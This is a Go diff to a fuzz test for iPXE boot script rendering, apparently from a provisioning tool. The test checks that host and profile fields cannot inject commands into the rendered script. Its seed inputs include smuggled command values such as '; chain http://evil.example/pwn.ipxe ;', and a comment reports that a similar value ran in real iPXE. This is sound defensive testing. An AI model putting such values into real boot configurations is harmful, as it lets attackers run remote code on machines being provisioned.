@@ -10,76 +10,125 @@ import (
 
 	"github.com/bootpilot/bootpilot/bootscripts"
 	"github.com/bootpilot/bootpilot/internal/host"
+	"github.com/bootpilot/bootpilot/internal/ipxescript"
 )
 
-// skeleton reduces a script to its structure: per line the command (or
-// label), options ("--x"), operators, goto targets, and "ARG" for every
-// other word. Words are split on single spaces, so an extra space or a tab
-// shows up too.
+// skeleton reduces a script to its structure as iPXE parses it
+// (ipxescript.Parse): per line the label, per command the command name,
+// options and other special tokens, goto targets, "ARG" for every other
+// token, and the terminator; then the comment.
 func skeleton(script string) []string {
 	var out []string
-	for _, line := range strings.Split(script, "\n") {
-		words := strings.Split(line, " ")
-		for i, w := range words {
-			// Only a word after an operator starts a command; "goto" takes
-			// its label from the next word.
-			op := func(j int) bool { return j >= 0 && (words[j] == "||" || words[j] == "&&") }
-			switch {
-			case i == 0, strings.HasPrefix(w, "--"), w == "||", w == "&&", op(i - 1),
-				op(i-2) && words[i-1] == "goto", w == bootscripts.HoldURLSetting:
-			default:
-				words[i] = "ARG"
+	for _, l := range ipxescript.Parse(script) {
+		words := []string{l.Label}
+		for _, c := range l.Commands {
+			for i, tok := range c.Tokens {
+				switch {
+				case i == 0, tok.Special, i == 1 && c.Tokens[0].Text == "goto":
+					words = append(words, tok.Text)
+				default:
+					words = append(words, "ARG")
+				}
 			}
+			words = append(words, c.Terminator)
 		}
-		out = append(out, strings.Join(words, " "))
+		out = append(out, strings.Join(append(words, l.Comment), " "))
 	}
 	return out
 }
 
+// scriptCommands are the only commands a stage-1 script runs.
+var scriptCommands = map[string]bool{
+	"echo": true, "kernel": true, "initrd": true, "boot": true, "goto": true,
+	"sleep": true, "isset": true, "chain": true, "exit": true,
+}
+
 // checkNoInjection asserts the properties every rendered script has,
-// whatever the host and profile hold.
+// whatever the host and profile hold, on the script as iPXE parses it.
 func checkNoInjection(t *testing.T, script string) {
 	t.Helper()
 	if !strings.HasPrefix(script, "#!ipxe\n") {
 		t.Fatalf("script does not start with #!ipxe:\n%s", script)
-	}
-	if n := strings.Count(script, "#"); n != 1 {
-		t.Errorf("script has %d '#', want only the shebang's:\n%s", n, script)
-	}
-	if strings.Contains(strings.ReplaceAll(script, bootscripts.HoldURLSetting, ""), "$") {
-		t.Errorf("script has a '$' other than %s:\n%s", bootscripts.HoldURLSetting, script)
 	}
 	for _, r := range script {
 		if r != '\n' && (r < 0x20 || r > 0x7e) {
 			t.Errorf("script has control or non-ASCII character %q", r)
 		}
 	}
-	lines := strings.Split(strings.TrimSuffix(script, "\n"), "\n")
-	if last := lines[len(lines)-1]; last != "exit 1" {
-		t.Errorf("last line = %q, want \"exit 1\"", last)
+	lines := ipxescript.Parse(script)
+	if last := lines[len(lines)-1].Commands; len(last) != 1 || fmt.Sprint(last[0].Tokens) != "[{exit false} {1 false}]" {
+		t.Errorf("last line = %+v, want \"exit 1\"", last)
 	}
-	for _, line := range lines[1:] {
-		words := strings.Split(line, " ")
-		for i, w := range words {
-			if i == 0 || strings.HasPrefix(w, "--") || w == "||" || w == "goto" || w == bootscripts.HoldURLSetting ||
-				(words[0] == "echo") {
-				continue
-			}
-			if err := host.CheckWord("word", w); err != nil {
-				t.Errorf("line %q: word %q: %v", line, w, err)
-			}
+	for i, l := range lines {
+		if want := map[bool]string{true: "#!ipxe", false: ""}[i == 0]; l.Comment != want {
+			t.Errorf("line %d: comment %q, want %q", i, l.Comment, want)
 		}
-		switch words[0] {
-		case "kernel", "initrd", "chain", "imgfetch":
-			if len(words) < 3 || words[1] != "--timeout" {
-				t.Errorf("fetch without --timeout: %q", line)
-			}
-		case "exit":
-			if line != "exit 1" {
-				t.Errorf("exit line %q, want \"exit 1\"", line)
-			}
+		if l.Label != "" && l.Label != ":failed" {
+			t.Errorf("line %d: label %q, want only :failed", i, l.Label)
+		}
+		for _, c := range l.Commands {
+			checkCommand(t, c)
 		}
 	}
+}
+
+// checkCommand checks one command of a stage-1 script.
+func checkCommand(t *testing.T, c ipxescript.Command) {
+	t.Helper()
+	if c.Terminator != "" && c.Terminator != "||" {
+		t.Errorf("command %v ends in %q, want only ||", c.Tokens, c.Terminator)
+	}
+	if len(c.Tokens) == 0 {
+		return
+	}
+	name := c.Tokens[0].Text
+	if !scriptCommands[name] {
+		t.Errorf("command %q is not one a template runs", name)
+	}
+	for i, tok := range c.Tokens[1:] {
+		switch {
+		case strings.HasPrefix(tok.Text, "--"), tok.Text == bootscripts.HoldURLSetting, name == "echo":
+		default:
+			if err := host.CheckWord("word", tok.Text); err != nil {
+				t.Errorf("command %q: argument %d %q: %v", name, i+1, tok.Text, err)
+			}
+		}
+	}
+	switch name {
+	case "kernel", "initrd", "chain", "imgfetch":
+		if len(c.Tokens) < 3 || c.Tokens[1].Text != "--timeout" {
+			t.Errorf("fetch without --timeout: %v", c.Tokens)
+		}
+	case "exit":
+		if len(c.Tokens) != 2 || c.Tokens[1].Text != "1" {
+			t.Errorf("exit %v, want \"exit 1\"", c.Tokens)
+		}
+	case "goto":
+		if len(c.Tokens) != 2 || c.Tokens[1].Text != "failed" {
+			t.Errorf("goto %v, want \"goto failed\"", c.Tokens)
+		}
+	}
+}
+
+// separators are what the fuzzer inserts into a field: everything iPXE
+// parses, each alone and as a word of its own.
+var separators = []string{";", "||", "&&", "#", "${x}", `"`, "'", `\`, "\r", "\n", "\t", "\v", "\f", "\x00", ":l", "-x"}
+
+// insertSeparator inserts separator sel (below 2*len(separators): the
+// second half as a word of its own, " ; ") into field target of h or p at
+// byte pos (both modulo their range).
+func insertSeparator(h *host.Host, p *host.Profile, sel int, target uint8, pos uint16) {
+	sep := separators[sel%len(separators)]
+	if sel >= len(separators) {
+		sep = " " + sep + " "
+	}
+	fields := []*string{&p.Cmdline, &p.Kernel, &h.Name, &h.Hostname, &h.Domain, &p.Image, &p.TargetDisk, &p.Name}
+	if len(p.Initrds) > 0 {
+		fields = append(fields, &p.Initrds[0])
+	}
+	f := fields[int(target)%len(fields)]
+	i := int(pos) % (len(*f) + 1)
+	*f = (*f)[:i] + sep + (*f)[i:]
 }
 
 // twinHost returns a host with the same shape as h (which fields are set,
@@ -146,9 +195,15 @@ func lineShape(s string) []int {
 }
 
 func FuzzScriptInjection(f *testing.F) {
+	// seed adds a case without an inserted separator (sel 2*len(separators));
+	// seedSep one with separator sel in field target.
+	seedSep := func(sel, target uint8, pos uint16, name, macs, ipv4, gw, dns, ipv6, gw6 string, vlan int, hostname, domain,
+		installer, kernel, initrds, cmdline, image, sha, disk, clean string) {
+		f.Add(name, macs, ipv4, gw, dns, ipv6, gw6, vlan, hostname, domain, installer, kernel, initrds, cmdline, image, sha, disk, clean, sel, target, pos)
+	}
 	seed := func(name, macs, ipv4, gw, dns, ipv6, gw6 string, vlan int, hostname, domain,
 		installer, kernel, initrds, cmdline, image, sha, disk, clean string) {
-		f.Add(name, macs, ipv4, gw, dns, ipv6, gw6, vlan, hostname, domain, installer, kernel, initrds, cmdline, image, sha, disk, clean)
+		seedSep(uint8(2*len(separators)), 0, 0, name, macs, ipv4, gw, dns, ipv6, gw6, vlan, hostname, domain, installer, kernel, initrds, cmdline, image, sha, disk, clean)
 	}
 	sha := strings.Repeat("ab", 32)
 	k := "https://mirror.example/vmlinuz"
@@ -164,22 +219,34 @@ func FuzzScriptInjection(f *testing.F) {
 	seed("n", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "", "", "kickstart", "https://u:p@m/k", "", "\texit", "$x", sha, "a\tb", "x")
 	seed("n", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "", "", "image", k, "", "ok", "reg/x${y}", sha, "/dev/vda", "")
 	seed("exit", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "goto", "", "kickstart", k, "", "goto failed exit boot :failed", "", "", "", "")
+	// The bare ';' that ran "echo INJECTED" in the real iPXE, literal and
+	// generated, in the cmdline and in other fields.
+	seed("n", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "", "", "kickstart", k, "", "console=ttyS0 ; echo INJECTED ;", "", "", "", "")
+	seed("n", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "", "", "none", k, "", "; chain http://evil.example/pwn.ipxe ;", "", "", "", "")
+	seed("n", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "", "", "autoinstall", k, "https://m/i", "a;b ;c d;", "", "", "", "")
+	n := uint8(len(separators))
+	for sel := range 2 * n {
+		for target := range uint8(9) {
+			seedSep(sel, target, 13, "n", "52:54:00:12:34:56", "10.0.2.15/24", "10.0.2.2", "10.0.2.3", "", "", 0, "web", "example.org", "image", k, "https://m/i",
+				"console=ttyS0 quiet", "https://img.example/disk.raw", sha, "/dev/vda", "zero")
+		}
+	}
 
 	r := MustRenderer(f)
 	ca, fp := testCA(f)
 	f.Fuzz(func(t *testing.T, name, macs, ipv4, gw, dns, ipv6, gw6 string, vlan int, hostname, domain,
-		installer, kernel, initrds, cmdline, image, sha, disk, clean string) {
+		installer, kernel, initrds, cmdline, image, sha, disk, clean string, sel, target uint8, pos uint16) {
 		h := host.Host{Name: name, MACs: strings.Split(macs, ","), IPv4: ipv4, Gateway: gw,
 			DNS: strings.Split(dns, ","), IPv6: ipv6, Gateway6: gw6, VLAN: vlan, Hostname: hostname, Domain: domain}
-		if h.Normalize() != nil {
-			return
-		}
 		p := host.Profile{Name: "fuzz", Installer: host.Installer(installer), Kernel: kernel, Cmdline: cmdline,
 			Image: image, ImageSHA256: sha, TargetDisk: disk, CleanMethod: clean}
 		if initrds != "" {
 			p.Initrds = strings.Split(initrds, "\n")
 		}
-		if p.Normalize() != nil {
+		if k := int(sel) % (2*len(separators) + 1); k < 2*len(separators) {
+			insertSeparator(&h, &p, k, target, pos)
+		}
+		if h.Normalize() != nil || p.Normalize() != nil {
 			return
 		}
 		tw, tp := twinHost(h), twinProfile(p)
